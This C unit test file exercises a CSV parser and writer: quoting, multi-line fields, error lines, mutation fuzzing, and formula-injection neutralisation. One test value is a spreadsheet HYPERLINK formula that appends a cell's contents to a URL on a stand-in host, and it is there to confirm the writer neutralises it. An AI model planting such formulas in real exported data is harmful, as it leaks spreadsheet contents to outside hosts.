/* SPDX-License-Identifier: MIT */
/* The RFC 4180 reader and field writer. */

#include <stdlib.h>

#include "sd/csv.h"
#include "sd/util.h"
#include "unit.h"

/* Records as "LINE:field|field" lines, or "LINE!error" for a bad one. */
static void render(struct sd_buf *out, const struct sd_csv *csv)
{
	for (size_t i = 0; i < csv->n; i++) {
		const struct sd_csv_record *r = &csv->records[i];
		if (r->err) {
			sd_buf_printf(out, "%zu!%s\n", r->line, r->err->msg);
			continue;
		}
		sd_buf_printf(out, "%zu:", r->line);
		for (size_t j = 0; j < r->n; j++)
			sd_buf_printf(out, "%s%s", j ? "|" : "", r->fields[j]);
		sd_buf_addch(out, '\n');
	}
}

/* Parses exactly len bytes, with no NUL after them. */
static sd_error *parse_exact(struct sd_csv *csv, const char *data, size_t len, size_t *line)
{
	char *copy = sd_xmalloc(len ? len : 1);
	memcpy(copy, data, len);
	sd_error *err = sd_csv_parse(csv, copy, len, line);
	free(copy);
	return err;
}

static void test_records(void)
{
	static const struct {
		const char *in;
		size_t len; /* 0: strlen */
		const char *out;
	} cases[] = {
		{ "", 0, "" },
		{ "a,b,c\n", 0, "1:a|b|c\n" },
		{ "a,b,c", 0, "1:a|b|c\n" },
		{ "a,b\r\nc,d\r\n", 0, "1:a|b\n2:c|d\n" },
		{ "a\n\n\r\nb\n", 0, "1:a\n4:b\n" },
		{ ",\n", 0, "1:|\n" },
		{ "a,,\n", 0, "1:a||\n" },
		{ "\"a,b\",\"c\"\"d\"\n", 0, "1:a,b|c\"d\n" },
		{ "\"\"\n", 0, "1:\n" },
		{ "\"\"\"\"\n", 0, "1:\"\n" },
		{ "\"line1\nline2\",x\ny,z\n", 0, "1:line1\nline2|x\n3:y|z\n" },
		{ "\"crlf\r\ninside\"\r\nnext\r\n", 0, "1:crlf\ninside\n3:next\n" },
		{ "\"lone\rcr\"\n", 0, "1:lone\rcr\n" },
		{ "bare\rcr,x\n", 0, "1:bare\rcr|x\n" },
		{ "\xef\xbb\xbfid,title\n1,x\n", 0, "1:id|title\n2:1|x\n" },
		{ " spaced , kept \n", 0, "1: spaced | kept \n" },
		{ "\xc3\xa9t\xc3\xa9,\xe2\x82\xac\n", 0, "1:\xc3\xa9t\xc3\xa9|\xe2\x82\xac\n" },
		{ "a\"b,c\nnext\n", 0,
		  "1!a '\"' inside an unquoted field; quote the whole field and "
		  "double the quotes in it\n2:next\n" },
		{ "\"a\"b,c\nnext\n", 0,
		  "1!text after the closing quote of a field; quote the whole "
		  "field and double the quotes in it\n2:next\n" },
		{ "\"a\"b\"\nc\",d\nnext\n", 0,
		  "1!text after the closing quote of a field; quote the "
		  "whole field and double the quotes in it\n2!a '\"' inside "
		  "an unquoted field; quote the whole field and double the "
		  "quotes in it\n3:next\n" },
		{ "a\0b,c\nnext\n", 11, "1!a NUL byte\n2:next\n" },
		{ "\"a\0b\",c\nnext\n", 13, "1!a NUL byte\n2:next\n" },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		struct sd_csv csv;
		size_t len = cases[i].len ? cases[i].len : strlen(cases[i].in);
		sd_error *err = parse_exact(&csv, cases[i].in, len, NULL);
		CHECK(!err, "case %zu parses: %s", i, err ? err->msg : "");
		if (!err) {
			struct sd_buf b = SD_BUF_INIT;
			render(&b, &csv);
			char what[32];
			snprintf(what, sizeof(what), "case %zu", i);
			CHECK_STR(cases[i].out, b.data, what);
			sd_buf_release(&b);
			sd_csv_release(&csv);
		}
		sd_error_free(err);
	}
}

static void test_errors(void)
{
	static const struct {
		const char *in;
		size_t line;
	} cases[] = {
		{ "\"open", 1 },
		{ "a,b\nc,\"open\nstill\n", 2 },
		{ "x\n\"a\"\"\n", 2 },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		struct sd_csv csv;
		size_t line = 0;
		sd_error *err = parse_exact(&csv, cases[i].in, strlen(cases[i].in), &line);
		CHECK(err && err->status == SD_EXIT_INVALID && strstr(err->msg, "never closed"),
		      "case %zu: unclosed quote refused: %s", i, err ? err->msg : "accepted");
		CHECK(line == cases[i].line, "case %zu: line %zu, want %zu", i, line,
		      cases[i].line);
		CHECK(csv.n == 0 && csv.records == NULL, "case %zu: nothing kept", i);
		sd_error_free(err);
	}

	struct sd_buf wide = SD_BUF_INIT;
	for (int i = 0; i < SD_CSV_MAX_FIELDS + 1; i++)
		sd_buf_adds(&wide, i ? ",x" : "x");
	sd_buf_adds(&wide, "\nok\n");
	struct sd_csv csv;
	sd_error *err = sd_csv_parse(&csv, wide.data, wide.len, NULL);
	CHECK(!err && csv.n == 2 && csv.records[0].err && csv.records[1].n == 1,
	      "a record with too many fields is refused, the next read");
	if (!err)
		sd_csv_release(&csv);
	sd_error_free(err);
	sd_buf_release(&wide);
}

/* Whatever sd_csv_field writes reads back as the same field, once the
 * "'" it adds before formula-like text is taken off again. */
static void test_field_round_trip(void)
{
	static const char *const values[] = {
		"",
		"plain",
		"a,b",
		"say \"hi\"",
		"\"",
		"line1\nline2",
		" lead",
		"trail ",
		"\ttab",
		"\xc3\xa9t\xc3\xa9 \xe2\x80\xae",
		"<!-- sd:timeline -->",
		",,,",
		"\n",
		"a\"\"b",
		"=HYPERLINK(\"http://x/?\"&A1)",
		"+1",
		"-2 degrees",
		"@SUM(A1)",
		"\rcr",
		"'=already quoted",
		"''+two",
		"'plain quote",
		"'",
		"a=b",
	};
	size_t n = sizeof(values) / sizeof(*values);
	struct sd_buf line = SD_BUF_INIT;
	for (size_t i = 0; i < n; i++) {
		if (i)
			sd_buf_addch(&line, ',');
		sd_csv_field(&line, values[i]);
	}
	sd_buf_addch(&line, '\n');
	struct sd_csv csv;
	sd_error *err = sd_csv_parse(&csv, line.data, line.len, NULL);
	CHECK(!err && csv.n == 1 && !csv.records[0].err && csv.records[0].n == n,
	      "one record of %zu fields: %s", n, line.data);
	for (size_t i = 0; !err && i < n && i < csv.records[0].n; i++)
		CHECK_STR(values[i], sd_csv_unneutralise(csv.records[0].fields[i]),
			  "field round trip");
	if (!err)
		sd_csv_release(&csv);
	sd_error_free(err);

	sd_buf_reset(&line);
	sd_csv_field(&line, "plain");
	CHECK_STR("plain", line.data, "plain fields are not quoted");
	sd_buf_reset(&line);
	sd_csv_field(&line, "a \"q\", b");
	CHECK_STR("\"a \"\"q\"\", b\"", line.data, "quotes doubled inside quotes");

	/* Formula injection (OWASP): neutralised, unless raw. */
	static const char *const cells[][3] = {
		{ "=1+2", "'=1+2", "=1+2" },
		{ "+1", "'+1", "+1" },
		{ "-1", "'-1", "-1" },
		{ "@x", "'@x", "@x" },
		{ "\tx", "\"'\tx\"", "\"\tx\"" },
		{ "\rx", "\"'\rx\"", "\"\rx\"" },
		{ "=a,b", "\"'=a,b\"", "\"=a,b\"" },
		{ "'=x", "''=x", "'=x" },
		{ "'x", "'x", "'x" },
		{ "x=1", "x=1", "x=1" },
	};
	for (size_t i = 0; i < sizeof(cells) / sizeof(*cells); i++) {
		sd_buf_reset(&line);
		sd_csv_field(&line, cells[i][0]);
		CHECK_STR(cells[i][1], line.data, "neutralised cell");
		sd_buf_reset(&line);
		sd_csv_field_raw(&line, cells[i][0]);
		CHECK_STR(cells[i][2], line.data, "raw cell");
	}
	CHECK_STR("'x", sd_csv_unneutralise("'x"), "a quote of the text's own stays");
	CHECK_STR("=x", sd_csv_unneutralise("'=x"), "the added quote goes");
	CHECK_STR("'-x", sd_csv_unneutralise("''-x"), "one added quote goes");
	sd_buf_release(&line);
}

static void test_mutations(void)
{
	static const char seed[] = "\xef\xbb\xbfid,title,tags\r\n1,\"a, \"\"b\"\"\",\"x, y\"\r\n"
				   "2,\"multi\nline\",\r\n3,plain,z\n";
	unsigned state = 777;
	size_t bad_lines = 0;
	for (int round = 0; round < 20000; round++) {
		char buf[sizeof(seed)];
		size_t len = sizeof(seed) - 1;
		memcpy(buf, seed, len);
		for (int k = 0; k < 1 + round % 3; k++) {
			if (!len)
				break;
			state = state * 1103515245u + 12345u;
			size_t at = (state >> 8) % len;
			state = state * 1103515245u + 12345u;
			switch ((state >> 16) % 3) {
			case 0:
				buf[at] = (char)(state >> 4);
				break;
			case 1:
				len = at;
				break;
			default:
				buf[at] = ",\"\r\n\0x"[(state >> 5) % 6];
			}
		}
		struct sd_csv csv;
		sd_error *err = parse_exact(&csv, buf, len, NULL);
		if (!err) {
			size_t last = 0;
			for (size_t i = 0; i < csv.n; i++) {
				bad_lines += csv.records[i].line <= last;
				last = csv.records[i].line;
			}
			sd_csv_release(&csv);
		}
		sd_error_free(err);
	}
	CHECK(bad_lines == 0, "mutations: record lines always increase (%zu did not)", bad_lines);
}

int main(void)
{
	test_records();
	test_errors();
	test_field_round_trip();
	test_mutations();
	return unit_done("t-csv");
}
